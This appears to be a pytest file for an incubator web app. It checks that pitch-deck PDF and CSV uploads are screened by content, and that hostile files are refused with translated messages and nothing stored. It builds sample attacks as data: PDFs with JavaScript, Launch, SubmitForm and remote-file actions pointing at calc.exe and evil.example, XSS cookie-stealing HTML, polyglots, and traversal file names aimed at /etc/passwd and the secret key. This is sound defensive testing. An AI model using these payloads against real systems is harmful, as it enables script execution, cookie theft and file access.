"""Hostile uploads: every file the app takes is checked by its content and refused with a clear,
translated message, with nothing kept on disk or in the database and the rest of the form kept.

Two forms take files: the pitch deck (PDF, on the application form) and the CSV import of a
director. Other areas (KPIs, milestones, mentoring, activities) take no files: milestone evidence
is a link or a note. Each hostile file is built here, posted through the real page, and checked in
Indonesian (the default) and in English (`?lang=en`).
"""

import io
import re
import struct
import zipfile
from pathlib import Path

import pytest
from markupsafe import escape
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, NumberObject
from sqlalchemy import func, select
from werkzeug.http import parse_options_header

from incubator.applications.models import Application
from incubator.audit.models import AuditEvent
from tests import test_import_pages, test_intake
from tests.conftest import csrf_token
from tests.test_import_pages import counts
from tests.test_intake import FULL, _draft, pdf_bytes

# The fixtures of the intake and import pages: an open cohort, and a signed-in director with a cohort to import into.
cohort = test_intake.cohort
director, cohort_id = test_import_pages.director, test_import_pages.cohort_id

# --- files built by hand ----------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"


def zip_bytes(members=(("evil.html", "<script>alert(1)</script>"),), comment=b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in members:
            archive.writestr(name, text)
        archive.comment = comment
    return out.getvalue()


XLSX = zip_bytes((("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")))


def raw_pdf(*bodies: bytes) -> bytes:
    """A PDF written by hand, object n being bodies[n - 1] and object 1 the catalogue: for what
    pypdf will not write (escaped names, any action anywhere)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def deck(catalog=b"", page=b"", link=None) -> bytes:
    """A one-page deck with extra catalogue or page entries, and a link whose action is `link`."""
    annots = b"/Annots [4 0 R]" if link else b""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + annots + b" >>",
    ]
    if link:
        bodies.append(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + link + b" >>")
    return raw_pdf(*bodies)


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def one_page(**encryption) -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if encryption:
        writer.encrypt(algorithm="RC4-128", **encryption)
    return writer


def aes_encrypted() -> bytes:
    """Declares AES (which pypdf cannot read without the `cryptography` package, absent here)."""
    writer = one_page(user_password="", owner_password="owner")
    entry = writer._encrypt_entry
    entry[NameObject("/V")], entry[NameObject("/R")] = NumberObject(4), NumberObject(4)
    entry[NameObject("/CF")] = DictionaryObject(
        {NameObject("/StdCF"): DictionaryObject({NameObject("/CFM"): NameObject("/AESV2")})}
    )
    entry[NameObject("/StmF")] = entry[NameObject("/StrF")] = NameObject("/StdCF")
    return written(writer)


def with_attachment() -> bytes:
    writer = one_page()
    writer.add_attachment("invoice.exe", EXE)
    return written(writer)


def zip_inside_pdf() -> bytes:
    """A true polyglot: a valid PDF that is also a valid ZIP (the archive sits before the end
    marker, its comment covering the rest, as in GIFAR/JAR tricks)."""
    pdf = pdf_bytes()
    cut = pdf.rindex(b"startxref")
    rest = b"\n" + pdf[cut:]  # the end of the PDF starts on a line of its own
    archive = zip_bytes()
    archive = archive[:-2] + struct.pack("<H", len(rest))  # the comment length covers the PDF's end
    return pdf[:cut] + archive + rest


PDF = pdf_bytes()
BIG_PDF = pdf_bytes(pages=40)
JS = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"

# (case, file name, content, declared type, problem)
REFUSED_DECKS = [
    ("empty", "deck.pdf", b"", "application/pdf", "empty"),
    ("png_renamed", "deck.pdf", PNG, "application/pdf", "not_pdf"),
    ("zip_renamed", "deck.pdf", zip_bytes(), "application/pdf", "not_pdf"),
    ("exe_renamed", "deck.pdf", EXE, "application/pdf", "not_pdf"),
    ("html_renamed", "deck.pdf", HTML, "application/pdf", "not_pdf"),
    ("html_then_pdf", "deck.pdf", HTML + PDF, "application/pdf", "not_pdf"),
    ("pdf_header_html_body", "deck.pdf", b"%PDF-1.7\n" + HTML + b"%%EOF\n", "application/pdf", "not_pdf"),
    ("pdf_then_jar", "deck.pdf", PDF + zip_bytes([(f"A{i}.class", "x" * 200) for i in range(20)]), None, "not_pdf"),
    ("pdf_then_html", "deck.pdf", PDF + HTML, "application/pdf", "not_pdf"),
    ("pdf_and_zip_polyglot", "deck.pdf", zip_inside_pdf(), "application/pdf", "not_pdf"),
    ("truncated", "deck.pdf", BIG_PDF[: len(BIG_PDF) // 2], "application/pdf", "broken"),
    ("no_end_marker", "deck.pdf", PDF.replace(b"%%EOF", b""), "application/pdf", "broken"),
    ("header_only", "deck.pdf", b"%PDF-1.7\nthis is not really a pdf\n%%EOF\n", "application/pdf", "broken"),
    ("no_pages", "deck.pdf", written(PdfWriter()), "application/pdf", "broken"),
    ("password_to_open", "deck.pdf", written(one_page(user_password="rahasia")), "application/pdf", "encrypted"),
    ("owner_password", "deck.pdf", written(one_page(user_password="", owner_password="x")), None, "encrypted"),
    ("aes_unreadable", "deck.pdf", aes_encrypted(), "application/pdf", "encrypted"),
    ("open_action_javascript", "deck.pdf", deck(catalog=b"/OpenAction " + JS), "application/pdf", "scripted"),
    ("catalog_additional_actions", "deck.pdf", deck(catalog=b"/AA << /WC " + JS + b" >>"), None, "scripted"),
    ("page_additional_actions", "deck.pdf", deck(page=b"/AA << /O " + JS + b" >>"), "application/pdf", "scripted"),
    (
        "document_javascript",
        "deck.pdf",
        deck(catalog=b"/Names << /JavaScript << /Names [(a) " + JS + b"] >> >>"),
        None,
        "scripted",
    ),
    ("link_javascript", "deck.pdf", deck(link=JS), "application/pdf", "scripted"),
    ("link_launch", "deck.pdf", deck(link=b"<< /S /Launch /F (C:\\\\Windows\\\\calc.exe) >>"), None, "scripted"),
    ("link_launch_escaped_name", "deck.pdf", deck(link=b"<< /S /L#61unch /F (calc.exe) >>"), None, "scripted"),
    ("link_javascript_uri", "deck.pdf", deck(link=b"<< /S /URI /URI (java\tscript:alert\\(1\\)) >>"), None, "scripted"),
    (
        "link_remote_file",
        "deck.pdf",
        deck(link=b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\x.pdf) >>"),
        None,
        "scripted",
    ),
    ("link_submit_form", "deck.pdf", deck(link=b"<< /S /SubmitForm /F (https://evil.example/) >>"), None, "scripted"),
    ("embedded_file", "deck.pdf", with_attachment(), "application/pdf", "attachment"),
    ("png_declared_pdf", "slides.pdf", PNG, "application/pdf", "not_pdf"),
    ("traversal_name_html", "../../../templates/base.html", HTML, "text/html", "not_pdf"),
    # The test sets the deck limit to 1 MB.
    (
        "over_the_deck_limit",
        "deck.pdf",
        PDF.replace(b"%%EOF", b"%" + b"0" * 1024 * 1024 + b"\n%%EOF"),
        None,
        "too_large",
    ),
]

DECK_MESSAGES = {
    "empty": ("Berkas kosong.", "The file is empty."),
    "not_pdf": (
        "Dek harus berupa berkas PDF; berkas ini bukan PDF.",
        "The deck must be a PDF file; this file is not a PDF.",
    ),
    "broken": (
        "PDF ini rusak atau tidak dapat dibuka. Ekspor ulang, lalu unggah berkas yang baru.",
        "This PDF is damaged or cannot be opened. Export it again and upload the new file.",
    ),
    "encrypted": (
        "PDF ini dilindungi kata sandi atau enkripsi. Ekspor ulang tanpa perlindungan.",
        "This PDF is protected with a password or encryption. Export it again without protection.",
    ),
    "scripted": (
        "PDF ini berisi skrip atau tindakan otomatis, yang tidak diizinkan. Ekspor ulang sebagai PDF biasa.",
        "This PDF contains scripts or automatic actions, which are not allowed. Export it again as a plain PDF.",
    ),
    "attachment": (
        "PDF ini berisi berkas yang dilampirkan di dalamnya, yang tidak diizinkan. Ekspor ulang sebagai PDF biasa.",
        "This PDF has files attached inside it, which are not allowed. Export it again as a plain PDF.",
    ),
    "too_large": (
        "Dek lebih besar dari 1 MB. Silakan unggah PDF yang lebih kecil.",
        "The deck is larger than 1 MB. Please upload a smaller PDF.",
    ),
}
LANGS = ("id", "en")
TYPED = {**FULL, "problem": 'Pengrajin <b>lurik</b> sulit menjual online & "offline"'}
STORED = re.compile(r"[0-9a-f]{32}\.pdf")


# --- helpers ----------------------------------------------------------------------------------


@pytest.fixture
def uploads(app, tmp_path) -> Path:
    """A fresh upload folder for this test, so anything written to it shows."""
    app.config["UPLOAD_FOLDER"] = str(tmp_path / "uploads")
    return tmp_path / "uploads"


def files_in(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def post_deck(client, app_id, name, content, mimetype="application/pdf", lang="id", fields=TYPED):
    data = {**fields, "save": "1", "csrf_token": csrf_token(client, "/")}
    data["deck"] = (io.BytesIO(content), name, mimetype) if mimetype else (io.BytesIO(content), name)
    return client.post(f"/applications/{app_id}/edit?lang={lang}", data=data, content_type="multipart/form-data")


def deck_row(db) -> tuple:
    with db.session() as session:
        return tuple(
            session.execute(select(Application.deck_path, Application.deck_filename, Application.deck_size)).one()
        )


def deck_events(db) -> int:
    return db.scalar(select(func.count(AuditEvent.id)).where(AuditEvent.action == "application.deck_uploaded"))


def error_of(page: str, field: str) -> str | None:
    """The message shown under a form field."""
    match = re.search(rf'<p class="error" id="{field}-error">(.*?)</p>', page)
    return match and match.group(1)


def refusal(client, db, uploads, app_id, case, name, content, mimetype, lang) -> dict:
    """What the founder and the server have after posting one hostile deck with the pitch text
    (marked with the case's name, so that each post's text is new)."""
    typed = {**TYPED, "problem": f"{TYPED['problem']} ({case})"}
    response = post_deck(client, app_id, name, content, mimetype, lang, fields=typed)
    page = response.get_data(as_text=True)
    return {
        "status": response.status_code,
        "message": error_of(page, "deck"),
        "files": files_in(uploads),
        "deck": deck_row(db),
        "deck_events": deck_events(db),
        "text_shown_again": all(f"{escape(typed[k])}</textarea>" in page for k in ("problem", "solution", "traction"))
        and 'value="Rp 150.000.000"' in page,
        "text_saved": db.scalar(select(Application.problem)) == typed["problem"],
    }


def acceptance(client, db, uploads, app_id, name, content) -> dict:
    """Where a valid deck posted under `name` (with a false type) is stored, and how it is served."""
    status = post_deck(client, app_id, name, content, mimetype="image/png").status_code
    stored = files_in(uploads)
    path, filename, size = deck_row(db)
    served = client.get(f"/applications/{app_id}/deck")
    return {
        "status": status,
        "stored_name": path,
        "stored": [
            (p.parent.name, bool(STORED.fullmatch(p.name)), p.name == path, p.read_bytes() == content) for p in stored
        ],
        "deck": (filename, size),
        "download": parse_options_header(served.headers["Content-Disposition"]),
        "served": (served.mimetype, served.data == content),
    }


# --- pitch decks --------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
def test_hostile_decks_are_refused_and_nothing_kept(app, client, login_as, cohort, db, uploads, lang):
    app.config["MAX_DECK_BYTES"] = 1024 * 1024
    login_as(client, "applicant")
    _, app_id = _draft(client, cohort)
    seen = {case: refusal(client, db, uploads, app_id, case, *upload, lang) for case, *upload, _ in REFUSED_DECKS}
    refused = {
        "status": 200,
        "files": [],
        "deck": (None, None, None),
        "deck_events": 0,
        "text_shown_again": True,
        "text_saved": True,
    }
    assert seen == {
        case: {**refused, "message": DECK_MESSAGES[problem][LANGS.index(lang)]} for case, *_, problem in REFUSED_DECKS
    }


@pytest.mark.parametrize(
    ("lang", "message"),
    [
        ("id", "Dek lebih besar dari 20 MB. Silakan unggah PDF yang lebih kecil."),
        ("en", "The deck is larger than 20 MB. Please upload a smaller PDF."),
    ],
)
def test_request_over_the_upload_limit_gets_the_translated_413(
    client, login_as, cohort, db, uploads, app, lang, message
):
    login_as(client, "applicant")
    _, app_id = _draft(client, cohort)
    post_deck(client, app_id, "deck.pdf", PDF, lang=lang)  # an earlier, good deck and text
    before = (deck_row(db), db.scalar(select(Application.problem)), files_in(uploads))
    app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
    # Over the pitch form's ceiling (5 x the request limit): refused before it is read.
    response = post_deck(client, app_id, "deck.pdf", PDF + b"\n" * (400 * 1024), lang=lang, fields={"problem": "x"})
    page = response.get_data(as_text=True)
    assert response.status_code == 413
    assert message in page
    assert 'enctype="multipart/form-data"' in page  # the form again, with the saved draft
    # Nothing changes: the earlier draft and deck stay.
    assert (deck_row(db), db.scalar(select(Application.problem)), files_in(uploads)) == before
    assert deck_events(db) == 1


def test_deck_over_the_request_limit_is_cut_off_on_disk_and_the_text_saved(client, login_as, cohort, db, uploads, app):
    login_as(client, "applicant")
    _, app_id = _draft(client, cohort)
    post_deck(client, app_id, "deck.pdf", PDF, lang="en")
    before = (deck_row(db), files_in(uploads))
    app.config["MAX_CONTENT_LENGTH"] = 64 * 1024
    app.config["MAX_DECK_BYTES"] = 63 * 1024
    response = post_deck(client, app_id, "deck.pdf", PDF + b"\n" * (100 * 1024), lang="en", fields={"problem": "x"})
    assert response.status_code == 200
    assert "The deck is larger than 0 MB. Please upload a smaller PDF." in response.get_data(as_text=True)
    assert db.scalar(select(Application.problem)) == "x"
    assert (deck_row(db), files_in(uploads)) == before


# A valid deck under a hostile name or a false type is accepted (its content decides): it is stored
# under a random name and offered for download under a harmless one.
ACCEPTED_DECKS = [
    ("traversal_unix", "../../etc/passwd.pdf", PDF, "passwd.pdf"),
    ("traversal_windows", "..\\..\\win.ini.pdf", PDF, "win.ini.pdf"),
    ("absolute_path", "/etc/passwd", PDF, "passwd.pdf"),
    ("null_byte", "deck\x00.exe", PDF, "deck.exe.pdf"),
    ("right_to_left_override", "invoice\u202efdp.exe", PDF, "invoicefdp.exe.pdf"),
    ("markup", "<img src=x onerror=alert(1)>.pdf", PDF, "img srcx onerroralert1.pdf"),
    ("very_long", "a" * 5000 + ".pdf", PDF, "a" * 150 + ".pdf"),
    ("only_dots", "....", PDF, "deck.pdf"),
    ("type_lied_png", "deck.pdf", PDF, "deck.pdf"),
    ("open_at_first_page", "beamer.pdf", deck(catalog=b"/OpenAction [3 0 R /Fit]"), "beamer.pdf"),
    ("web_link", "links.pdf", deck(link=b"<< /S /URI /URI (https://lurik.example/) >>"), "links.pdf"),
    ("mail_link", "links.pdf", deck(link=b"<< /S /URI /URI (mailto:tim@lurik.example) >>"), "links.pdf"),
]


def test_valid_decks_under_hostile_names_are_stored_safely(client, login_as, cohort, db, uploads):
    login_as(client, "applicant")
    _, app_id = _draft(client, cohort)
    # Each upload replaces the one before, whose file is removed.
    seen = {case: acceptance(client, db, uploads, app_id, name, content) for case, name, content, _ in ACCEPTED_DECKS}
    stored_names = {facts.pop("stored_name") for facts in seen.values()}
    assert len(stored_names) == len(ACCEPTED_DECKS)  # random: the same content never gets the same name
    assert seen == {
        case: {
            "status": 302,
            "stored": [("decks", True, True, True)],
            "deck": (download, len(content)),
            "download": ("attachment", {"filename": download}),
            "served": ("application/pdf", True),
        }
        for case, _, content, download in ACCEPTED_DECKS
    }


# --- the CSV import -----------------------------------------------------------------------------

GOOD_CSV = b"Alamat email,Nama pendiri,Nama startup\nrina@lurik.id,Rina,Batik Lurik\n"
MANY_ROWS = b"Alamat email,Nama startup\n" + b"".join(b"s%d@contoh.id,Startup %d\n" % (i, i) for i in range(5001))
HUGE = b"Alamat email,Nama startup\n" + b"someone@example.org,Startup\n" * 190_000

REFUSED_CSVS = [
    ("empty", "a.csv", b"", "empty"),
    ("blank_lines", "a.csv", b" \r\n\n\t\n", "empty"),
    ("png_renamed", "a.csv", PNG, "not_text"),
    ("xlsx_renamed", "answers.csv", XLSX, "not_text"),
    ("exe_renamed", "a.csv", EXE, "not_text"),
    ("utf16_without_bom", "a.csv", GOOD_CSV.decode().encode("utf-16-le"), "not_text"),
    ("utf16_with_bom", "a.csv", GOOD_CSV.decode().encode("utf-16"), "not_text"),
    ("control_characters", "a.csv", b"Alamat email,Nama\x1b[31m startup\nx@y.id,A\n", "not_text"),
    ("header_only", "a.csv", b"Alamat email,Nama startup\n", "no_rows"),
    ("no_header_row", "a.csv", b"rina@lurik.id,Batik Lurik\n", "no_header"),
    ("too_many_rows", "a.csv", MANY_ROWS, "too_many_rows"),
    ("over_5_mb", "a.csv", HUGE, "too_big"),
    ("xlsx_name", "answers.xlsx", GOOD_CSV, "extension"),
    ("traversal_without_csv", "../../instance/secret_key", GOOD_CSV, "extension"),
    ("null_byte_name", "answers.csv\x00.exe", GOOD_CSV, "extension"),
]

CSV_MESSAGES = {
    "empty": ("Berkas kosong.", "The file is empty."),
    "not_text": (
        "Ini bukan berkas CSV. Di Google Sheets atau Excel, unduh atau simpan jawaban sebagai nilai yang dipisahkan "
        "koma (.csv), lalu unggah berkas tersebut.",
        "This is not a CSV file. In Google Sheets or Excel, download or save the answers as comma-separated values "
        "(.csv) and upload that file.",
    ),
    "no_rows": ("Berkas memiliki nama kolom, tetapi tidak ada jawaban.", "The file has column names but no answers."),
    "no_header": ("Baris pertama harus berisi nama kolom.", "The first row must hold the column names."),
    "too_many_rows": (
        "Berkas memiliki lebih dari 5000 baris. Pecah menjadi beberapa berkas yang lebih kecil.",
        "The file has more than 5000 rows. Split it into smaller files.",
    ),
    "too_big": (
        "Berkas lebih besar dari 5 MB. Pecah menjadi beberapa berkas yang lebih kecil.",
        "The file is larger than 5 MB. Split it into smaller files.",
    ),
    "extension": ("Pilih berkas CSV (namanya berakhiran .csv).", "Choose a CSV file (its name ends in .csv)."),
}


def post_csv(client, cohort_id, name, content, lang):
    url = f"/cohorts/{cohort_id}/import"
    data = {"file": (io.BytesIO(content), name, "text/csv"), "csrf_token": csrf_token(client, url)}
    return client.post(f"{url}?lang={lang}", data=data, content_type="multipart/form-data")


def audit_count(db) -> int:
    return db.scalar(select(func.count(AuditEvent.id)))


def csv_refusal(client, db, uploads, outbox, cohort_id, name, content, lang) -> dict:
    before = (counts(db), audit_count(db))
    response = post_csv(client, cohort_id, name, content, lang)
    return {
        "status": response.status_code,
        "message": error_of(response.get_data(as_text=True), "file"),
        "files": files_in(uploads),
        "written": (counts(db), audit_count(db)) != before or outbox() != [],
    }


@pytest.mark.parametrize("lang", LANGS)
def test_hostile_csv_files_are_refused_and_nothing_kept(client, director, cohort_id, db, uploads, outbox, lang):
    seen = {
        case: csv_refusal(client, db, uploads, outbox, cohort_id, *upload, lang) for case, *upload, _ in REFUSED_CSVS
    }
    assert seen == {
        case: {"status": 200, "message": CSV_MESSAGES[problem][LANGS.index(lang)], "files": [], "written": False}
        for case, *_, problem in REFUSED_CSVS
    }


def test_csv_under_a_traversal_name_is_kept_under_a_random_name(client, director, cohort_id, db, uploads):
    before = counts(db)
    response = post_csv(client, cohort_id, "..\\..\\..\\instance\\answers.csv", GOOD_CSV, "id")
    assert response.status_code == 302
    (kept,) = files_in(uploads)
    assert kept.parent == uploads / "imports"
    assert re.fullmatch(r"[0-9a-f]{32}\.csv", kept.name)
    assert response.headers["Location"] == f"/cohorts/{cohort_id}/import/{kept.stem}"
    assert counts(db) == before  # nothing is written before the confirmation
